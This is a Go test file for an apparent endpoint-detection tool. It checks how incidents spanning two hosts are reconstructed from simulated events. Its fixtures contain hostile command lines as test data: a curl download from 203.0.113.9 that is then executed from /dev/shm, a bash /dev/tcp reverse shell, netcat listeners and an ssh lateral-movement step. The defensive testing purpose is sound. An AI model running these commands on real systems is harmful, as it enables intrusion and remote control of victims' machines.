package incident_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/event/eventtest"
	"github.com/yagura-edr/yagura/internal/incident"
)

// two are hosts ga and gb, whose events become one list.
type two struct{ a, b *tape }

func newTwo() two {
	w := two{newTape(hostA), newTape(hostB)}
	for name, t := range map[string]*tape{"ga": w.a, "gb": w.b} {
		t.events[0].Event.Hostname = name
	}
	return w
}

// meet brings both clocks to the later one.
func (w two) meet() { w.a.now = max(w.a.now, w.b.now); w.b.now = w.a.now }

func (w two) all() *tape {
	out := &tape{host: hostA, procs: map[string]*event.Process{}, parent: map[string]string{}}
	out.events = append(append(out.events, w.a.events...), w.b.events...)
	slices.SortStableFunc(out.events, func(x, y event.Stamped) int { return int(x.Event.Time - y.Event.Time) })
	out.dets = append(append(out.dets, w.a.dets...), w.b.dets...)
	for k, v := range w.a.procs {
		out.procs["a."+k] = v
	}
	for k, v := range w.b.procs {
		out.procs["b."+k] = v
	}
	return out
}

// lateral is a web server that forks, a shell from it, ssh to the next host, and from there a connection back. Who logs on
// runs several programs in his first process.
func lateral(entry bool) *tape {
	w := newTwo()
	w.a.start("web", "init", 550, "/usr/bin/python3.11", "/usr/bin/python3 /home/app/webapp.py")
	w.a.net(event.NetListen, "web", "0.0.0.0:8000", "0.0.0.0:0")
	w.a.wait(60)
	if entry {
		w.a.net(event.NetAccept, "web", "192.0.2.1:8000", "203.0.113.9:47816")
	}
	w.a.fork("worker", "web", 556)
	w.a.detect(w.a.start("sh", "worker", 557, "/usr/bin/dash", "sh -c curl -so /dev/shm/.x http://203.0.113.9/x; chmod +x /dev/shm/.x; /dev/shm/.x"), "service started a shell", detection.High, "T1505.003")
	w.a.start("get", "sh", 558, "/usr/bin/curl", "curl -so /dev/shm/.x http://203.0.113.9/x")
	w.a.connect("get", "203.0.113.9:80")
	w.a.write("get", "/dev/shm/.x", "66")
	w.a.detect(w.a.startFile("x", "sh", 559, "/dev/shm/.x", "/dev/shm/.x", "66"), "program run from memory", detection.High, "T1059.004")
	w.a.start("nc", "sh", 571, "/usr/bin/nc.openbsd", "nc -lnp 9001")
	w.a.net(event.NetListen, "nc", "0.0.0.0:9001", "0.0.0.0:0")
	w.a.start("ssh", "sh", 573, "/usr/bin/ssh", "ssh app@192.0.2.2 curl y; chmod +x y; nohup ./y; hostname")
	w.a.net(event.NetConnect, "ssh", "192.0.2.1:56490", "192.0.2.2:22")
	w.meet()
	w.b.start("sshd", "init", 400, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
	w.b.net(event.NetAccept, "sshd", "[::ffff:192.0.2.2]:22", "[::ffff:192.0.2.1]:56490")
	w.b.start("priv", "sshd", 511, "/usr/sbin/sshd", "/usr/sbin/sshd -R")
	w.b.start("session", "priv", 512, "/usr/bin/bash", "bash -c curl y; chmod +x y; nohup ./y; hostname")
	w.b.start("curl", "session", 513, "/usr/bin/curl", "curl -so .y http://203.0.113.9/y")
	w.b.connect("curl", "203.0.113.9:80")
	w.b.write("curl", "/dev/shm/.y", "88")
	w.b.detect(w.b.startFile("y", "session", 514, "/dev/shm/.y", "./.y", "88"), "downloaded file run", detection.High, "T1204.002")
	w.b.start("back", "y", 520, "/usr/bin/bash", "bash -i")
	w.b.net(event.NetConnect, "back", "192.0.2.2:54880", "192.0.2.1:9001")
	w.meet()
	w.a.net(event.NetAccept, "nc", "192.0.2.1:9001", "192.0.2.2:54880")
	w.meet()
	w.b.exec("session", "/usr/bin/hostname", "hostname")
	return w.all()
}

// fork makes a process that runs its parent's image.
func (t *tape) fork(name, parent string, pid uint64) event.Stamped {
	p := t.process(name, parent, pid, t.procs[parent].Path, t.procs[parent].CommandLine)
	child := *t.procs[parent]
	child.Key, child.PID = p.Key, pid
	return t.add(event.Event{Kind: event.ProcessFork, Actor: *t.procs[parent], Parent: t.up(parent), Target: child})
}

// exec makes a process run another image.
func (t *tape) exec(name, path, cmd string) event.Stamped {
	t.procs[name].Path, t.procs[name].CommandLine = path, cmd
	return t.add(event.Event{Kind: event.ProcessExec, Actor: *t.procs[name], Parent: t.up(name)})
}

func answer(s incident.Story, name string) (en, ja string) {
	for _, a := range s.Answers {
		if a.Answer == name {
			for _, x := range a.Sentences {
				en += x.Text.En + "\n"
				ja += x.Text.Ja + "\n"
			}
		}
	}
	return en, ja
}

// The step from host to host is not the way in; a server that forks before it runs a program is.
func TestLateralStepIsNotTheWayIn(t *testing.T) {
	s := lateral(true).story()
	if s.Entry.Route != "exploited_service" || !strings.Contains(s.Entry.Chain[0].Text.En, "webapp.py (pid 550 on ga)") || !strings.Contains(s.Entry.Chain[0].Text.En, "203.0.113.9") {
		t.Errorf("entry %s: %+v; want the web server on ga that took 203.0.113.9's connection", s.Entry.Route, s.Entry.Chain)
	}
	for _, a := range s.Entry.Alternatives {
		if a.Route == "logon" || a.Route == "another_host" || a.Route == "download" {
			t.Errorf("%s on gb is offered as a way in", a.Route)
		}
	}
	if len(s.Entry.Steps) != 2 || !strings.HasPrefix(s.Entry.Steps[0].Text.En, "ga → gb at ") || !strings.Contains(s.Entry.Steps[0].Text.En, "ssh (pid 573 on ga)") || !strings.HasSuffix(s.Entry.Steps[0].Text.En, "as web") ||
		!strings.HasPrefix(s.Entry.Steps[1].Text.En, "gb → ga at ") {
		t.Errorf("steps %+v; want ga → gb by ssh as web, then gb → ga", s.Entry.Steps)
	}
	wantEdge(t, s, incident.EdgeHostToHost, 2)
	who, _ := answer(s, "who")
	if !strings.Contains(who, "203.0.113.9") || strings.Contains(who, "192.0.2.1:") {
		t.Errorf("who: %s; want the outside address, not that of ga", who)
	}
}

func TestUnknownEntryOnTheFirstHostNamesItAndTheStep(t *testing.T) {
	s := lateral(false).story()
	if s.Entry.Route != "unknown" || !strings.HasPrefix(s.Entry.Stopped.Why.En, "entry on ga unknown: ") || !strings.HasPrefix(s.Entry.Stopped.Why.Ja, "ga への侵入経路は不明") {
		t.Errorf("entry %s, %q; want unknown on ga", s.Entry.Route, s.Entry.Stopped.Why.En)
	}
	if len(s.Entry.Steps) == 0 || !strings.HasPrefix(s.Entry.Steps[0].Text.En, "ga → gb") {
		t.Errorf("steps %+v; want ga → gb", s.Entry.Steps)
	}
	who, _ := answer(s, "who")
	if strings.Contains(who, "192.0.2.") {
		t.Errorf("who: %s; want no inside address as an outside mark", who)
	}
}

// Each row, sentence and title says its host when there are two, and a session's first process is still its shell.
func TestStoryOfTwoHostsNamesThem(t *testing.T) {
	tp := lateral(true)
	s := tp.story()
	for _, n := range s.Nodes {
		want := map[string]string{hostA.String(): "ga", hostB.String(): "gb"}[n.Host]
		if n.HostName != want {
			t.Errorf("node %s is on %q; want %q", n.Label, n.HostName, want)
		}
		if n.PID == 512 && (n.Label != "bash" || !slices.Equal(n.Later, []string{"hostname"})) {
			t.Errorf("the session's first process is shown as %s, later %v; want bash, later hostname", n.Label, n.Later)
		}
	}
	for _, a := range s.Answers {
		for _, x := range a.Sentences {
			for _, text := range []string{x.Text.En, x.Text.Ja} {
				if strings.Contains(text, "pid") && !strings.Contains(text, "ga") && !strings.Contains(text, "gb") {
					t.Errorf("%s: %q names no host", a.Answer, text)
				}
			}
		}
	}
	where, _ := answer(s, "where")
	if !strings.Contains(where, "192.0.2.2:22 (host gb)") || !strings.Contains(where, "192.0.2.1:9001 (host ga)") {
		t.Errorf("where: %s; want the hosts' names beside their addresses", where)
	}
	k := desk(t, tp.events, tp.dets, 9)
	if len(k) != 1 || !strings.HasSuffix(k[0].Row.Title.En, " on ga, gb") || !strings.HasSuffix(k[0].Row.Title.Ja, "（ga, gb）") {
		t.Errorf("%d incidents, the first %q; want one on ga, gb", len(k), k[0].Row.Title.En)
	}
}

// controller is a reverse shell from ga to a listener on gb that starts nothing.
func controller() *tape {
	w := newTwo()
	w.b.start("login", "init", 60, "/usr/bin/bash", "-bash")
	w.b.start("nc", "login", 5376, "/usr/bin/nc.openbsd", "nc -lnp 7777")
	w.b.net(event.NetListen, "nc", "0.0.0.0:7777", "0.0.0.0:0")
	w.meet()
	w.a.start("cron", "init", 15, "/usr/sbin/cron", "/usr/sbin/cron -f")
	w.a.start("job", "cron", 30, "/usr/bin/dash", "/bin/sh -c /home/app/job")
	w.a.start("shell", "job", 31, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.9.0.2/7777 0>&1")
	w.a.detect(w.a.net(event.NetConnect, "shell", "10.9.0.1:42748", "10.9.0.2:7777"), "reverse shell", detection.Critical)
	w.meet()
	w.b.net(event.NetAccept, "nc", "10.9.0.2:7777", "10.9.0.1:42748")
	w.a.start("bash", "shell", 32, "/usr/bin/bash", "bash -i")
	w.a.net(event.NetStdioSocket, "bash", "10.9.0.1:42748", "10.9.0.2:7777")
	return w.all()
}

func TestListenerThatStartsNothingJoins(t *testing.T) {
	tp := controller()
	for seed := range uint64(30) { // the peer may be told first or last
		s := incident.FromEvents(eventtest.Interleave(tp.events, seed), tp.dets, incident.Context{})
		wantEdge(t, s, incident.EdgeHostToHost, 1)
		if !slices.ContainsFunc(s.Nodes, func(n incident.Node) bool {
			return n.HostName == "gb" && strings.HasPrefix(n.CommandLine, "nc -l") && !slices.Contains(n.Flags, incident.FlagContext)
		}) {
			t.Fatalf("order %d: nc on gb is not in the story\n%s", seed, dump(s))
		}
	}
	if k := desk(t, tp.events, tp.dets, 3); len(k) != 1 || len(k[0].Row.Hosts) != 2 {
		t.Errorf("%d incidents on %v; want one on two hosts", len(k), k[0].Row.Hostnames)
	}
	// found at the listener instead: the shell on the other host is led to
	tp.dets = nil
	for _, e := range tp.events {
		if e.Event.Kind == event.NetListen {
			tp.detect(e, "listener", detection.High)
		}
	}
	s := tp.story()
	wantEdge(t, s, incident.EdgeHostToHost, 1)
	wantMembers(t, &tape{host: hostA, procs: map[string]*event.Process{"shell": tp.procs["a.shell"]}}, s, []string{"shell"}, nil)
}

// A daemon of another host that serves many is shown, and its host does not become part of the incident.
func TestServerThatAMemberAskedDoesNotJoin(t *testing.T) {
	w := newTwo()
	w.b.start("nginx", "init", 80, "/usr/sbin/nginx", "nginx: worker process")
	w.b.net(event.NetListen, "nginx", "0.0.0.0:80", "0.0.0.0:0")
	w.meet()
	w.a.start("tool", "init", 31, "/home/u/tool", "/home/u/tool")
	w.a.detect(w.a.net(event.NetConnect, "tool", "10.9.0.1:42748", "10.9.0.2:80"), "reverse shell", detection.Critical)
	w.meet()
	w.b.net(event.NetAccept, "nginx", "10.9.0.2:80", "10.9.0.1:42748")
	tp := w.all()
	if k := desk(t, tp.events, tp.dets, 3); len(k[0].Row.Hosts) != 1 {
		t.Errorf("the incident is on %v; want ga alone", k[0].Row.Hostnames)
	}
}

// The number of programs that a found listener ran before does not cut it off from who opened its connection.
func TestListenerThatRanManyProgramsKeepsItsConnection(t *testing.T) {
	for _, n := range []int{0, 40} {
		w := newTwo()
		w.b.start("tool", "init", 31, "/home/u/tool", "/home/u/tool")
		w.b.detect(w.b.net(event.NetListen, "tool", "0.0.0.0:7777", "0.0.0.0:0"), "listener", detection.High)
		w.b.like(n, "tool", 1000, "/usr/bin/id", "id")
		w.b.wait(60)
		w.meet()
		w.a.start("shell", "init", 31, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.9.0.2/7777 0>&1")
		w.a.net(event.NetConnect, "shell", "10.9.0.1:42748", "10.9.0.2:7777")
		w.meet()
		w.b.net(event.NetAccept, "tool", "10.9.0.2:7777", "10.9.0.1:42748")
		wantEdge(t, w.all().story(), incident.EdgeHostToHost, 1)
	}
}

// A file that one request dropped is run by another request from a second host: that connection is told, although only the
// file leads to what it started.
func TestProgramThatOnlyAFileLeadsToKeepsItsConnection(t *testing.T) {
	w := newTwo()
	w.a.start("web", "init", 80, "/srv/app/server", "/srv/app/server")
	w.a.net(event.NetListen, "web", "0.0.0.0:8000", "0.0.0.0:0")
	w.a.net(event.NetAccept, "web", "192.0.2.1:8000", "203.0.113.9:47816")
	w.a.detect(w.a.start("sh", "web", 81, "/usr/bin/dash", "sh -c tee /dev/shm/k"), "service started a shell", detection.High)
	w.a.start("tee", "sh", 82, "/usr/bin/tee", "tee /dev/shm/k")
	w.a.write("tee", "/dev/shm/k", "77")
	w.meet()
	w.b.start("curl", "init", 31, "/usr/bin/curl", "curl http://192.0.2.1:8000/run")
	w.b.net(event.NetConnect, "curl", "192.0.2.2:42748", "192.0.2.1:8000")
	w.meet()
	w.a.net(event.NetAccept, "web", "192.0.2.1:8000", "192.0.2.2:42748")
	w.a.startFile("k", "web", 83, "/dev/shm/k", "/dev/shm/k", "77")
	tp := w.all()
	s := tp.story()
	wantEdge(t, s, incident.EdgeHostToHost, 1)
	if k := desk(t, tp.events, tp.dets, 3); len(k) != 1 || len(k[0].Row.Hosts) != 2 {
		t.Errorf("%d incidents on %v; want one on two hosts", len(k), k[0].Row.Hostnames)
	}
}

// Two hosts behind address translation say the same of their own end: which of them was meant is not guessed.
func TestHostsWithOneAddressAreNotMixedUp(t *testing.T) {
	w := newTwo()
	for _, t := range []*tape{w.a, w.b} {
		t.start("tool", "init", 31, "/home/u/tool", "/home/u/tool")
		t.net(event.NetConnect, "tool", "10.0.2.15:40000", "192.0.2.9:22")
	}
	w.a.detect(w.a.events[len(w.a.events)-1], "reverse shell", detection.High)
	w.meet()
	c := newTape(event.HostID{9})
	c.events[0].Event.Hostname = "gc"
	c.now = w.a.now
	c.start("sshd", "init", 400, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
	c.net(event.NetAccept, "sshd", "192.0.2.9:22", "10.0.2.15:40000")
	c.start("session", "sshd", 512, "/usr/bin/bash", "bash -c id")
	c.detect(c.start("id", "session", 513, "/usr/bin/id", "id"), "account looked up", detection.High)
	tp := w.all()
	tp.events, tp.dets = append(tp.events, c.events...), append(tp.dets, c.dets...)
	if k := desk(t, tp.events, tp.dets, 3); len(k) != 2 {
		t.Errorf("%d incidents; want two: nobody knows which of two hosts came", len(k))
	}
	s := incident.FromEvents(tp.events, tp.dets, incident.Context{})
	for _, a := range s.Answers {
		for _, x := range a.Sentences {
			if strings.Contains(x.Text.En, "10.0.2.15") && strings.Contains(x.Text.En, "(ga)") {
				t.Errorf("%q names a host by an address of two", x.Text.En)
			}
		}
	}
}

// The addresses that hosts told the server name them, also when no connection of theirs was seen.
func TestStoredAddressNamesAHost(t *testing.T) {
	tp := newTape(hostA)
	tp.start("tool", "init", 31, "/home/u/tool", "/home/u/tool")
	tp.detect(tp.net(event.NetConnect, "tool", "10.9.0.1:42748", "10.9.0.2:7777"), "reverse shell", detection.Critical)
	ad := netip.MustParseAddr("10.9.0.2")
	c := incident.Context{Names: map[event.HostID]string{hostA: "ga", hostB: "gb"}, Addresses: map[netip.Addr][]event.HostID{ad: {hostB}}}
	if where, ja := answer(incident.FromEvents(tp.events, tp.dets, c), "where"); !strings.Contains(where, "(host gb)") || !strings.Contains(ja, "（ホスト gb）") {
		t.Errorf("where: %s %s; want gb", where, ja)
	}
	c.Addresses[ad] = append(c.Addresses[ad], hostA)
	if where, _ := answer(incident.FromEvents(tp.events, tp.dets, c), "where"); strings.Contains(where, "gb") {
		t.Errorf("where: %s; want no name for an address of two hosts", where)
	}
}

// A log-on from a host of ours that is no part of the story came from inside, whatever its address looks like.
func TestEntryFromAHostOfOursIsNoOutsideMark(t *testing.T) {
	tp := newTape(hostA)
	tp.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
	tp.net(event.NetAccept, "sshd", "10.9.0.1:22", "10.9.0.2:50022")
	tp.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: ops [priv]")
	tp.start("bash", "session", 202, "/usr/bin/bash", "bash -c id")
	tp.detect(tp.start("id", "bash", 203, "/usr/bin/id", "id"), "account looked up", detection.High)
	c := incident.Context{Names: map[event.HostID]string{hostB: "gb"}, Addresses: map[netip.Addr][]event.HostID{netip.MustParseAddr("10.9.0.2"): {hostB}}}
	s := incident.FromEvents(tp.events, tp.dets, c)
	who, ja := answer(s, "who")
	if s.Entry.Route != "another_host" || strings.Contains(who, "outside mark") || !strings.Contains(who, "look on gb") || !strings.Contains(ja, "gb で調べて") {
		t.Errorf("route %s, who %s; want another_host, inside, gb", s.Entry.Route, who)
	}
}

// wandering moves the server's estimates, not the kernel's count: each lane has another delay, and some are flattened.
func wandering(t *tape) *tape {
	for i, e := range t.events {
		if e.Event.Kind != event.SensorStart {
			e.Event.Time += int64(e.Event.Kind.Lane()) * 190_000
			if i%3 == 0 {
				e.Event.Time -= 150_000
			}
		}
	}
	return t
}

// The server's estimates of one boot wander: the kernel's own order decides what came before what.
func TestOrderOfABootIsThatOfTheKernel(t *testing.T) {
	for name, tape := range map[string]func() *tape{"web shell": webShell, "lateral": func() *tape { return lateral(true) }, "cron": persistence, "link": func() *tape { return spearPhish(true) }} {
		want := tape().story()
		got := wandering(tape()).story()
		if got.Entry.Route != want.Entry.Route || len(got.Edges) != len(want.Edges) || len(got.Nodes) != len(want.Nodes) {
			t.Errorf("%s: with wandering estimates entry %s, %d edges, %d nodes; want %s, %d, %d", name, got.Entry.Route, len(got.Edges), len(got.Nodes), want.Entry.Route, len(want.Edges), len(want.Nodes))
		}
		last := map[string]int64{}
		for _, n := range got.Nodes {
			if n.Kind == incident.NodeProcess && n.Start < last[n.Host] {
				t.Errorf("%s: %s starts before the row above it", name, n.Label)
			}
			last[n.Host] = max(last[n.Host], n.Start)
		}
	}
}

// forking: the listener takes the connection, or its forked worker does, and forks of forks come before the program.
func TestServerThatForksIsTheEntry(t *testing.T) {
	for _, taker := range []string{"web", "worker"} {
		for depth := range 4 {
			tp := newTape(hostA)
			tp.start("web", "init", 550, "/usr/bin/python3.11", "/usr/bin/python3 /home/app/webapp.py")
			tp.net(event.NetListen, "web", "0.0.0.0:8000", "0.0.0.0:0")
			if taker == "web" {
				tp.net(event.NetAccept, "web", "192.0.2.1:8000", "203.0.113.9:47816")
			}
			up := "web"
			for i := range depth {
				tp.fork(fmt.Sprint("worker", i), up, uint64(560+i))
				up = fmt.Sprint("worker", i)
			}
			if taker == "worker" {
				tp.net(event.NetAccept, up, "192.0.2.1:8000", "203.0.113.9:47816")
			}
			tp.detect(tp.start("sh", up, 601, "/usr/bin/dash", "sh -c id"), "service started a shell", detection.High)
			if s := tp.story(); s.Entry.Route != "exploited_service" || !strings.Contains(s.Entry.Chain[0].Text.En, "203.0.113.9:47816") {
				t.Errorf("connection taken by the %s, %d forks: entry %s (%s)", taker, depth, s.Entry.Route, s.Entry.Stopped.Why.En)
			}
		}
	}
}

// One rule many times is one line with a number, in the answer and in the title.
func TestOneRuleManyTimesIsOneLine(t *testing.T) {
	tp := newTape(hostA)
	tp.start("sh", "init", 31, "/home/u/tool", "/home/u/tool")
	for i := range 28 {
		tp.detect(tp.start(fmt.Sprint(i), "sh", uint64(100+i), "/usr/bin/stat", "stat mimipenguin"), "memory of a process dumped", detection.High, "T1003.007")
	}
	how, ja := answer(tp.story(), "how")
	if strings.Count(how, "\n") != 1 || !strings.Contains(how, "28 times") || !strings.Contains(ja, "計 28 回") {
		t.Errorf("how: %s%s; want one line that says 28 times", how, ja)
	}
	k := desk(t, tp.events, tp.dets, 50)
	if len(k) != 1 || strings.Contains(k[0].Row.Title.En, "more") || k[0].Row.Detections != 28 {
		t.Errorf("title %q with %d detections; want no \"more\", 28", k[0].Row.Title.En, k[0].Row.Detections)
	}
}
